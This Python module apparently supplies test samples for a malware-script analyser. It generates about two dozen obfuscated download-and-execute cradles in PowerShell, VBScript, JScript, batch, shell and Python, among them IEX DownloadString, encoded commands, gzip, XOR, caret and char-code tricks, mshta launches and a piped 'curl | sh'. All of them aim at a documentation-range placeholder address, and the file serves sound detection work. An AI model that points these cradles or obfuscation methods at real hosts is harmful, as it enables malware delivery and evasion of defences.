"""Scripts that hide an address in as many ways, made on the spot. None of them does anything: the address is no host."""

import base64
import gzip
import zlib
from collections.abc import Iterator

from samplebank.worker.analysers.strings import script_encoder

ADDRESS = "http://203.0.113.7"
CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('{ADDRESS}/a')"
JSCRIPT = f"var h = new ActiveXObject('MSXML2.XMLHTTP'); h.open('GET', '{ADDRESS}/a', false); h.send();"


def _pieces(text: str, size: int) -> Iterator[str]:
    yield from (text[start : start + size] for start in range(0, len(text), size))


def _concatenated(text: str, size: int, mark: str, joint: str) -> str:
    return joint.join(f"{mark}{piece}{mark}" for piece in _pieces(text, size))


def _base64(content: bytes) -> str:
    return base64.b64encode(content).decode()


def _deflated(text: str) -> bytes:
    packer = zlib.compressobj(wbits=-15)
    return packer.compress(text.encode()) + packer.flush()


def concatenation() -> str:
    return f"$u={_concatenated(ADDRESS + '/a', 3, chr(39), '+')};&('I'+'EX') (New-Object ('Net.W'+'ebClient')).('Down'+'loadString')($u)"


def visual_basic() -> str:
    return f'Set x = CreateObject("MSX" & "ML2.XML" & "HTTP")\r\nx.Open "GET", {_concatenated(ADDRESS, 4, chr(34), " & ")}, False\r\n'


def format_operator() -> str:
    return "IEX (New-Object Net.WebClient).\"D`ow`nload`String\"((\"{2}{0}{1}\" -f '//203.0','.113.7/a','http:'))"


def backticks() -> str:
    return f"i`E`x (n`ew-ob`ject net.web`cli`ent).down`load`string('ht'+'tp://203.0.'+'113.7/a') # {'x' * 20}"


def characters() -> str:
    return "IEX (" + "+".join(f"[char]{ord(letter)}" for letter in CRADLE) + ")"


def character_array() -> str:
    return f"IEX (-join[char[]]({','.join(str(ord(letter)) for letter in CRADLE)}))"


def from_char_code() -> str:
    return f"eval(String.fromCharCode({', '.join(str(ord(letter)) for letter in JSCRIPT)}));"


def chr_calls() -> str:
    return "Execute " + " & ".join(
        f"Chr({ord(letter)})" for letter in f'CreateObject("WScript.Shell").Run "mshta {ADDRESS}"'
    )


def hex_escapes() -> str:
    return 'var u = "' + "".join(f"\\x{ord(letter):02x}" for letter in ADDRESS) + '"; location = u;'


def percent_escapes() -> str:
    return "eval(unescape('" + "".join(f"%u{ord(letter):04x}" for letter in JSCRIPT) + "'));"


def hex_digits() -> str:
    return f"import subprocess\nexec(bytes.fromhex('{f'import os; os.system(chr(99)); u = {ADDRESS!r}'.encode().hex()}'))\n"


def base64_of_python() -> str:
    packed = _base64(zlib.compress(f"import os; os.system('curl {ADDRESS}/a')".encode()))
    return f"import base64, zlib\nexec(zlib.decompress(base64.b64decode(b'{packed}')))\n"


def encoded_command() -> str:
    return f"powershell.exe -nop -w hidden -EncodedCommand {_base64(CRADLE.encode('utf-16-le'))}"


def gzip_stream() -> str:
    packed = _base64(gzip.compress(CRADLE.encode()))
    return f"$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"


def deflate_stream() -> str:
    packed = _base64(_deflated(CRADLE))
    return f"IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('{packed}'),'Decompress')))).ReadToEnd()"


def carets() -> str:
    command = f'powershell -c "irm {ADDRESS}/a"'
    return "@echo off\r\n" + "^".join(command) + "\r\n"


def batch_variables() -> str:
    letters = "".join(sorted(set(f"mshta {ADDRESS}")))
    picked = "".join(f"%v:~{letters.index(letter)},1%" for letter in f"mshta {ADDRESS}")
    return f'@echo off\r\nset "v={letters}"\r\n{picked}\r\n'


def visual_basic_encoded() -> str:
    return encoded_script(f'CreateObject("WScript.Shell").Run "mshta {ADDRESS}/a"\r\n')


def reversal() -> str:
    return f'u = StrReverse("{ADDRESS[::-1]}")\r\nCreateObject("WScript.Shell").Run "mshta " & u\r\n'


def shell_pipe() -> str:
    return f"#!/bin/sh\necho {_base64(f'curl {ADDRESS}/x | sh'.encode())} | base64 -d | sh\n"


def five_layers() -> str:
    script = CRADLE
    for _ in range(4):
        script = f"powershell -enc {_base64(script.encode('utf-16-le'))}"
    return f"$a='pow'+'ershell';{script}"


def xor() -> str:
    key = 35
    numbers = ",".join(str(ord(letter) ^ key) for letter in CRADLE)
    return f"IEX (({numbers}) | %{{[char]($_ -bxor {key})}} | Out-String)"


def xor_by_variable() -> str:
    key = 35
    hidden = _base64(bytes(ord(letter) ^ key for letter in CRADLE))
    return f"$k = 0x{key:x}; $b = [Convert]::FromBase64String('{hidden}')\r\n$b | % {{ [char]($_ -bxor $k) }}\r\n"


def reversal_of_variable() -> str:
    return f"$u = '{ADDRESS[::-1]}'\r\nStart-BitsTransfer (-join $u[-1..-($u.Length)]) a.exe\r\n"


SCRIPTS = {
    make.__name__.replace("_", " "): make
    for make in (
        concatenation,
        visual_basic,
        format_operator,
        backticks,
        characters,
        character_array,
        from_char_code,
        chr_calls,
        hex_escapes,
        percent_escapes,
        hex_digits,
        base64_of_python,
        encoded_command,
        gzip_stream,
        deflate_stream,
        carets,
        batch_variables,
        visual_basic_encoded,
        reversal,
        shell_pipe,
        five_layers,
        xor,
        xor_by_variable,
        reversal_of_variable,
    )
}


def encoded_script(script: str) -> str:
    """Encode as Microsoft's Script Encoder does, without its check sum."""
    written = []
    for place, letter in enumerate(script):
        code = ord(letter)
        alphabet = script_encoder.ORDER[place % 64]
        if pair := {"\n": "@&", "\r": "@#", ">": "@*", "<": "@!", "@": "@$"}.get(letter):
            written.append(pair)
        elif code == script_encoder.TABS[alphabet]:
            written.append("\t")
        elif code == 9 or 32 <= code < 128:
            codes = (chr(number) for number in range(32, 128) if chr(number) not in "<>@")
            written.append(
                next(one for one in codes if script_encoder.ALPHABETS[alphabet][ord(one) - 32] == code)
            )
        else:
            written.append(letter)
    return f"#@~^CAAAAA=={''.join(written)}AAAAAA==^#~@"
